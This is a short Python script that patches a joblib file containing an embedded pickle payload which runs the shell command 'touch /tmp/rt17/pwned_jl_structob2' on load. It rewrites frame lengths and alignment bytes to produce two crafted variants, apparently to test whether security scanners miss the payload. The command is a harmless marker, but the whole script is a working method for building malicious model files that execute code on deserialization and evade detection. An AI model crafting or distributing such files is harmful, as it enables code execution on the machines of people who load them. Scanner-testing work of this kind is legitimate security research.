import pickle, io, struct
d = open("jl_structobj_raw.joblib","rb").read().replace(b"pwned_jl_structobj", b"pwned_jl_structob2")
s = d.index(b"\x80\x05\x95", 2)
class U(pickle.Unpickler):
    def find_class(self, m, n): return lambda *a, **k: None
import pickletools
L = [p for o,a,p in pickletools.genops(io.BytesIO(d[s:])) if o.name=="STOP"][0] + 1; print("nested", s, L, d[s+L:])
pad = (-L) % 8
i = d.index(b"touch /tmp/rt17/pwned_jl_structob2")
assert d[i-2] == 0x8c
nd = d[:i-1] + bytes([d[i-1]+pad]) + d[i:i+34] + b" "*pad + d[i+34:]
if nd[s+2] == 0x95:
    fl = struct.unpack("<Q", nd[s+3:s+11])[0]; nd = nd[:s+3] + struct.pack("<Q", fl+pad) + nd[s+11:]
count = (L + pad) // 8
assert nd[100:102] == b"K\x01"
nd = nd[:100] + b"K" + bytes([count]) + nd[102:]
open("fn_jl_structobj.joblib","wb").write(nd)
print("count", count)
nd2 = nd.replace(b"\x8c\x1bnumpy_array_alignment_bytes\x94K\x10", b"", 1)
nd2 = nd2.replace(b"pwned_jl_structob2", b"pwned_jl_structob3")
open("fn_jl_structobj_noalign.joblib","wb").write(nd2)
rm = len(nd) - len(nd2)
fl = struct.unpack("<Q", nd2[3:11])[0]
nd2 = nd2[:3] + struct.pack("<Q", fl - rm) + nd2[11:]
open("fn_jl_structobj_noalign.joblib","wb").write(nd2)
